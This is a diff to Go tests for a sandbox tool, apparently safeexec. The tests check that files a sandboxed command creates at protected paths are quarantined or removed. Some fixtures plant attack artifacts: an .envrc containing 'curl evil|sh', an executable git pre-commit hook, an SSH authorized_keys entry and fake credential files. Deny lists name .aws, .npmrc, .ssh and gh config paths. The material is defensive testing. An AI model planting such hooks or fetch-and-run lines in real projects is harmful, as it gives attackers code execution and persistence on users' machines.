@@ -344,8 +344,8 @@ func TestBwrapWaitMeansTreeGone(t *testing.T) {
 }
 
 // TestBwrapParentSIGKILL kills the process that started the sandbox with
-// SIGKILL and checks that the whole tree, every placeholder and the run's
-// cgroup are gone within two seconds.
+// SIGKILL and checks that the whole tree and the run's cgroup are gone
+// within two seconds.
 func TestBwrapParentSIGKILL(t *testing.T) {
 	t.Run("plain", func(t *testing.T) { testParentSIGKILL(t, false) })
 	t.Run("limits", func(t *testing.T) { testParentSIGKILL(t, true) })
@@ -386,26 +386,20 @@ func testParentSIGKILL(t *testing.T, limits bool) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	// The placeholders exist while the sandbox runs.
 	if !bwEventually(2*time.Second, func() bool { return bwPidNSMembers(ns) >= 3 }) {
 		t.Fatalf("sandbox did not start its processes")
 	}
-	if _, err := os.Lstat(filepath.Join(dir, ".envrc")); err != nil {
-		t.Errorf("placeholder .envrc missing during the run: %v", err)
+	// No placeholder for the missing protected paths, not even while the
+	// sandbox runs.
+	if got := bwEntries(t, dir); len(got) != 1 || got[0] != ".git" {
+		t.Errorf("working directory during the run: %v", got)
 	}
-	// The watchdog starts once a run has lasted watchdogDelay.
+	// The cgroup's watchdog starts once a run has lasted watchdogDelay.
 	time.Sleep(2*watchdogDelay + 100*time.Millisecond)
 	cmd.Process.Signal(syscall.SIGKILL)
 	cmd.Wait()
 	if !bwEventually(2*time.Second, func() bool { return bwPidNSMembers(ns) == 0 }) {
 		t.Errorf("%d sandboxed processes still alive 2s after SIGKILL", bwPidNSMembers(ns))
-	}
-	if !bwEventually(2*time.Second, func() bool {
-		_, e1 := os.Lstat(filepath.Join(dir, ".envrc"))
-		_, e2 := os.Lstat(filepath.Join(dir, ".git", "hooks"))
-		return e1 != nil && e2 != nil
-	}) {
-		t.Errorf("placeholders left after SIGKILL: %v %v", bwEntries(t, dir), bwEntries(t, filepath.Join(dir, ".git")))
 	}
 	if !bwEventually(2*time.Second, func() bool {
 		left, _ := filepath.Glob(fmt.Sprintf("/sys/fs/cgroup/pids/safeexec-%d-*", cmd.Process.Pid))
@@ -415,7 +409,9 @@ func testParentSIGKILL(t *testing.T, limits bool) {
 	}
 }
 
-func TestBwrapNoPlaceholdersLeft(t *testing.T) {
+// TestBwrapNoPlaceholders: missing protected and masked paths leave no
+// trace, inside or on the host, during the run or after it.
+func TestBwrapNoPlaceholders(t *testing.T) {
 	dir := t.TempDir()
 	home := t.TempDir()
 	if err := os.MkdirAll(filepath.Join(dir, ".git", "hooks"), 0o755); err != nil {
@@ -423,16 +419,22 @@ func TestBwrapNoPlaceholdersLeft(t *testing.T) {
 	}
 	p := bwPolicy(t, dir)
 	p.DenyWrite = []string{".envrc", ".env", ".bashrc", ".mcp.json", ".git/hooks", ".git/config", ".husky"}
-	p.DenyRead = []string{filepath.Join(home, ".aws"), filepath.Join(home, ".npmrc"), filepath.Join(home, ".config", "gh")}
+	p.DenyRead = []string{filepath.Join(home, ".aws"), filepath.Join(home, ".npmrc"), filepath.Join(home, ".config", "gh"),
+		filepath.Join(dir, ".ssh")}
 	beforeDir, beforeHome := bwEntries(t, dir), bwEntries(t, home)
-	r := bwSh(t, p, "ls -a; ls -a "+home)
+	r := bwSh(t, p, "ls -a; ls -a .git")
 	if r.ExitCode != 0 {
 		t.Fatalf("run: %+v", r)
 	}
-	for _, name := range []string{".envrc", ".mcp.json", ".husky"} {
-		if !strings.Contains(r.stdout, name) {
-			t.Errorf("placeholder %s not visible inside: %q", name, r.stdout)
+	for _, name := range []string{".envrc", ".env", ".mcp.json", ".husky", ".ssh", ".aws", ".npmrc", ".config", "config"} {
+		for _, line := range strings.Split(r.stdout, "\n") {
+			if line == name {
+				t.Errorf("%s visible inside: %q", name, r.stdout)
+			}
 		}
+	}
+	if r.stderr != "" {
+		t.Errorf("stderr %q", r.stderr)
 	}
 	if got := bwEntries(t, dir); strings.Join(got, " ") != strings.Join(beforeDir, " ") {
 		t.Errorf("working directory after the run: %v, before %v", got, beforeDir)
@@ -445,33 +447,221 @@ func TestBwrapNoPlaceholdersLeft(t *testing.T) {
 	}
 }
 
-// TestBwrapPlaceholderSharedByConcurrentRuns checks that a run ending does
-// not remove a placeholder another sandbox still relies on (unlinking a
-// mount point on the host detaches it inside).
-func TestBwrapPlaceholderSharedByConcurrentRuns(t *testing.T) {
-	dir := t.TempDir()
+// bwQuarantine points the quarantine at a fresh state directory and
+// returns the quarantine's base.
+func bwQuarantine(t *testing.T) string {
+	state := t.TempDir()
+	t.Setenv("XDG_STATE_HOME", state)
+	return filepath.Join(state, "safeexec", "quarantine")
+}
+
+// bwQuarantined returns the one run directory in the quarantine base q,
+// failing when there is not exactly one.
+func bwQuarantined(t *testing.T, q string) string {
+	t.Helper()
+	es, err := os.ReadDir(q)
+	if err != nil || len(es) != 1 {
+		t.Fatalf("quarantine %s: %v %v", q, es, err)
+	}
+	return filepath.Join(q, es[0].Name())
+}
+
+// TestBwrapCreatedProtectedPaths: what the command creates at a protected
+// or masked path that did not exist does not survive the run: it is moved
+// into the quarantine, and stderr says so. Other new files stay.
+func TestBwrapCreatedProtectedPaths(t *testing.T) {
+	q := bwQuarantine(t)
+	dir := t.TempDir() // a home directory as the working directory
+	for _, d := range []string{".git", ".config"} {
+		if err := os.MkdirAll(filepath.Join(dir, d), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
 	p := bwPolicy(t, dir)
-	p.DenyWrite = []string{".envrc"}
-	long, out := bwStart(t, p, "/bin/sh", "-c",
-		`trap 'echo planted > .envrc; echo rc=$?' USR1; echo ready; while :; do sleep 0.05; done`)
-	bwReadLine(t, out)
-	// A second, short run ends while the first still runs.
-	if r := bwSh(t, p, "true"); r.ExitCode != 0 {
-		t.Fatalf("short run: %+v", r)
+	p.DenyWrite = []string{".envrc", ".git/hooks", ".mcp.json"}
+	p.DenyRead = []string{filepath.Join(dir, ".ssh"), filepath.Join(dir, ".config", "gh"), filepath.Join(dir, ".kube", "config")}
+	r := bwSh(t, p, `echo 'curl evil|sh' > .envrc
+mkdir -p .git/hooks && printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
+mkdir -p .ssh && echo ssh-ed25519 AAAA > .ssh/authorized_keys
+mkdir -p .config/gh && echo token > .config/gh/hosts.yml
+mkdir -p .kube && echo cluster > .kube/config
+echo kept > .config/other; echo kept > notes.txt`)
+	if r.ExitCode != 0 {
+		t.Fatalf("run: %+v", r)
 	}
-	if _, err := os.Lstat(filepath.Join(dir, ".envrc")); err != nil {
-		t.Fatalf("placeholder removed while another sandbox uses it: %v", err)
+	moved := []string{".envrc", ".git/hooks", ".ssh", ".config/gh", ".kube/config"}
+	for _, rel := range moved {
+		escAbsent(t, filepath.Join(dir, rel))
 	}
-	if err := long.Signal(syscall.SIGUSR1); err != nil {
+	for _, rel := range []string{".config/other", "notes.txt", ".kube"} {
+		if _, err := os.Stat(filepath.Join(dir, rel)); err != nil {
+			t.Errorf("%s did not survive: %v", rel, err)
+		}
+	}
+	run := bwQuarantined(t, q)
+	for rel, want := range map[string]string{
+		".envrc": "curl evil|sh\n", ".git/hooks/pre-commit": "#!/bin/sh\necho pwned\n",
+		".ssh/authorized_keys": "ssh-ed25519 AAAA\n", ".config/gh/hosts.yml": "token\n", ".kube/config": "cluster\n",
+	} {
+		if b, err := os.ReadFile(filepath.Join(run, dir, rel)); err != nil || string(b) != want {
+			t.Errorf("quarantined %s: %q %v", rel, b, err)
+		}
+	}
+	for _, rel := range moved {
+		line := fmt.Sprintf("safeexec: the command created %s, a protected path; moved it to %s\n",
+			filepath.Join(dir, rel), filepath.Join(run, dir, rel))
+		if !strings.Contains(r.stderr, line) {
+			t.Errorf("stderr lacks %q:\n%s", line, r.stderr)
+		}
+	}
+}
+
+// TestBwrapCreatedLinkToProtectedPath: a link the command puts on the way to
+// a masked path (~/.config -> a directory with gh/hosts.yml) is moved;
+// what it points to is left alone.
+func TestBwrapCreatedLinkToProtectedPath(t *testing.T) {
+	q := bwQuarantine(t)
+	dir := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(dir, ".config"), 0o755); err != nil {
 		t.Fatal(err)
 	}
-	if got := bwReadLine(t, out); got == "rc=0" {
-		t.Errorf("the first sandbox could write .envrc after the second ended")
+	p := bwPolicy(t, dir)
+	p.DenyRead = []string{filepath.Join(dir, ".config", "gh")}
+	r := bwSh(t, p, `mkdir -p elsewhere/gh && echo token > elsewhere/gh/hosts.yml && mv .config .config.old && ln -s elsewhere .config`)
+	if r.ExitCode != 0 {
+		t.Fatalf("run: %+v", r)
 	}
-	long.Kill()
-	long.Wait()
-	if _, err := os.Lstat(filepath.Join(dir, ".envrc")); err == nil {
-		t.Errorf("placeholder left after both runs: %v", bwEntries(t, dir))
+	escAbsent(t, filepath.Join(dir, ".config"))
+	if _, err := os.Stat(filepath.Join(dir, "elsewhere", "gh", "hosts.yml")); err != nil {
+		t.Errorf("the link's target was touched: %v", err)
+	}
+	run := bwQuarantined(t, q)
+	if l, err := os.Readlink(filepath.Join(run, dir, ".config")); err != nil || l != "elsewhere" {
+		t.Errorf("quarantined link: %q %v", l, err)
+	}
+	if !strings.Contains(r.stderr, "a link to the protected path "+filepath.Join(dir, ".config", "gh")) {
+		t.Errorf("stderr %q", r.stderr)
+	}
+}
+
+// TestBwrapCreatedRemovedAcrossFileSystems: when the quarantine is on
+// another file system, what the command created is removed instead.
+func TestBwrapCreatedRemovedAcrossFileSystems(t *testing.T) {
+	dir := t.TempDir()
+	shm, err := os.MkdirTemp("/dev/shm", "safeexec-q-")
+	if err != nil {
+		t.Skipf("no /dev/shm: %v", err)
+	}
+	defer os.RemoveAll(shm)
+	var a, b syscall.Stat_t
+	if syscall.Stat(dir, &a) != nil || syscall.Stat(shm, &b) != nil || a.Dev == b.Dev {
+		t.Skip("/dev/shm is not another file system here")
+	}
+	t.Setenv("XDG_STATE_HOME", shm)
+	p := bwPolicy(t, dir)
+	p.DenyWrite = []string{".envrc", ".husky"}
+	r := bwSh(t, p, `echo evil > .envrc; mkdir -p .husky/_ && echo evil > .husky/_/pre-commit`)
+	escAbsent(t, filepath.Join(dir, ".envrc"))
+	escAbsent(t, filepath.Join(dir, ".husky"))
+	want := "safeexec: the command created " + filepath.Join(dir, ".envrc") + ", a protected path; removed it\n" +
+		"safeexec: the command created " + filepath.Join(dir, ".husky") + ", a protected path; removed it\n"
+	if r.stderr != want {
+		t.Errorf("stderr %q, want %q", r.stderr, want)
+	}
+}
+
+// TestBwrapSweepFollowsNoLinks: the look after the run never goes through a
+// link to a root (a parent replaced by one), and moves a link it finds on
+// the way to a protected path without touching its target.
+func TestBwrapSweepFollowsNoLinks(t *testing.T) {
+	bwQuarantine(t)
+	top := t.TempDir()
+	real := filepath.Join(top, "real")
+	if err := os.MkdirAll(real, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	os.WriteFile(filepath.Join(real, ".envrc"), []byte("host\n"), 0o644)
+	os.Symlink(real, filepath.Join(top, "link"))
+	root := filepath.Join(top, "root")
+	os.MkdirAll(root, 0o755)
+	os.Symlink(real, filepath.Join(root, "sub"))
+	var out strings.Builder
+	for _, old := range []bool{false, true} {
+		testNoOpenat2 = old
+		sweepCreated([]watchPath{{Root: filepath.Join(top, "link"), Rel: ".envrc"}}, &out)
+		testNoOpenat2 = false
+		if b, _ := os.ReadFile(filepath.Join(real, ".envrc")); string(b) != "host\n" || out.Len() != 0 {
+			t.Errorf("swept through a linked root (without openat2: %v): %q %q", old, b, out.String())
+		}
+	}
+	// Without openat2, a root that is not linked is walked all the same.
+	testNoOpenat2 = true
+	sweepCreated([]watchPath{{Root: real, Rel: ".envrc"}}, &out)
+	testNoOpenat2 = false
+	if _, err := os.Lstat(filepath.Join(real, ".envrc")); err == nil || !strings.Contains(out.String(), "moved it to") {
+		t.Errorf("without openat2: %v %q", err, out.String())
+	}
+	os.WriteFile(filepath.Join(real, ".envrc"), []byte("host\n"), 0o644)
+	out.Reset()
+	sweepCreated([]watchPath{{Root: root, Rel: "sub/.envrc"}}, &out)
+	if b, _ := os.ReadFile(filepath.Join(real, ".envrc")); string(b) != "host\n" {
+		t.Errorf("the link's target was moved: %q", b)
+	}
+	escAbsent(t, filepath.Join(root, "sub"))
+	if !strings.Contains(out.String(), "a link to the protected path "+filepath.Join(root, "sub", ".envrc")) {
+		t.Errorf("stderr %q", out.String())
+	}
+}
+
+// TestBwrapConcurrentRunsMissingConfigDir: 30 runs at once, each with a
+// masked directory that does not exist inside its writable root (the
+// situation of safeexec's own config directory): all succeed, and the host
+// never sees anything at that path, so a concurrent safeexec can read it.
+func TestBwrapConcurrentRunsMissingConfigDir(t *testing.T) {
+	b := bwBackend(t)
+	top := t.TempDir()
+	const n = 30
+	type run struct {
+		proc Process
+		out  strings.Builder
+	}
+	runs := make([]*run, n)
+	for i := range runs {
+		dir := filepath.Join(top, fmt.Sprint(i))
+		if err := os.MkdirAll(dir, 0o755); err != nil {
+			t.Fatal(err)
+		}
+		p := &Policy{Mode: Compat, Cwd: dir, WritableRoots: []string{top},
+			DenyRead:  []string{filepath.Join(top, "config", "safeexec"), filepath.Join(dir, "config", "safeexec")},
+			DenyWrite: []string{".envrc", ".safeexec.toml"}}
+		r := &run{}
+		proc, err := b.Start(p, &Command{Argv: []string{"/bin/sh", "-c",
+			`while [ ! -e ../go ]; do sleep 0.01; done; test ! -e config && test ! -e ../config && echo ok`},
+			Env: bwEnv, Stdout: &r.out, Stderr: &r.out})
+		if err != nil {
+			t.Fatalf("start %d: %v", i, err)
+		}
+		r.proc = proc
+		runs[i] = r
+	}
+	// Every sandbox exists now; the host sees nothing where the config
+	// directories would be.
+	for _, d := range []string{top, filepath.Join(top, "7")} {
+		if _, err := os.Stat(filepath.Join(d, "config", "safeexec", "config.toml")); !errors.Is(err, os.ErrNotExist) {
+			t.Errorf("config path under %s during the runs: %v", d, err)
+		}
+	}
+	if err := os.WriteFile(filepath.Join(top, "go"), nil, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	for i, r := range runs {
+		st, err := r.proc.Wait()
+		if err != nil || st.ExitCode != 0 || r.out.String() != "ok\n" {
+			t.Errorf("run %d: %+v %v %q", i, st, err, r.out.String())
+		}
+	}
+	if got := bwEntries(t, top); len(got) != n+1 {
+		t.Errorf("top after the runs: %v", got)
 	}
 }
 
@@ -505,6 +695,7 @@ func TestBwrapModes(t *testing.T) {
 		t.Errorf("strict: second root writable")
 	}
 
+	bwQuarantine(t)
 	perm := &Policy{Mode: Permissive, Cwd: root, WritableRoots: []string{root},
 		DenyRead: []string{filepath.Join(other, "f")}, DenyWrite: []string{".envrc"}}
 	r = bwSh(t, perm, `echo y > `+other+`/h; cat `+other+`/f; echo z > .envrc`)
@@ -570,38 +761,6 @@ func TestDoctorBwrap(t *testing.T) {
 	}
 	if !ok {
 		t.Errorf("sandbox start check: %+v", r.Checks)
-	}
-}
-
-// TestBwrapEarlySIGKILLLeftovers kills the starting process before its
-// watchdog exists: the next run in the same directory removes what was
-// left.
-func TestBwrapEarlySIGKILLLeftovers(t *testing.T) {
-	bwBackend(t)
-	dir := t.TempDir()
-	exe, err := os.Executable()
-	if err != nil {
-		t.Fatal(err)
-	}
-	cmd := exec.Command(exe, bwTestParentArg, dir, "nolimits", "/bin/sh", "-c", "sleep 100")
-	stdout, err := cmd.StdoutPipe()
-	if err != nil {
-		t.Fatal(err)
-	}
-	if err := cmd.Start(); err != nil {
-		t.Fatal(err)
-	}
-	bwReadLine(t, bufio.NewReader(stdout))
-	cmd.Process.Signal(syscall.SIGKILL)
-	cmd.Wait()
-	time.Sleep(100 * time.Millisecond)
-	p := bwPolicy(t, dir)
-	p.DenyWrite = []string{".envrc"}
-	if r := bwSh(t, p, "true"); r.ExitCode != 0 {
-		t.Fatalf("next run: %+v", r)
-	}
-	if _, err := os.Lstat(filepath.Join(dir, ".envrc")); err == nil {
-		t.Errorf("placeholder still there after the next run")
 	}
 }
 
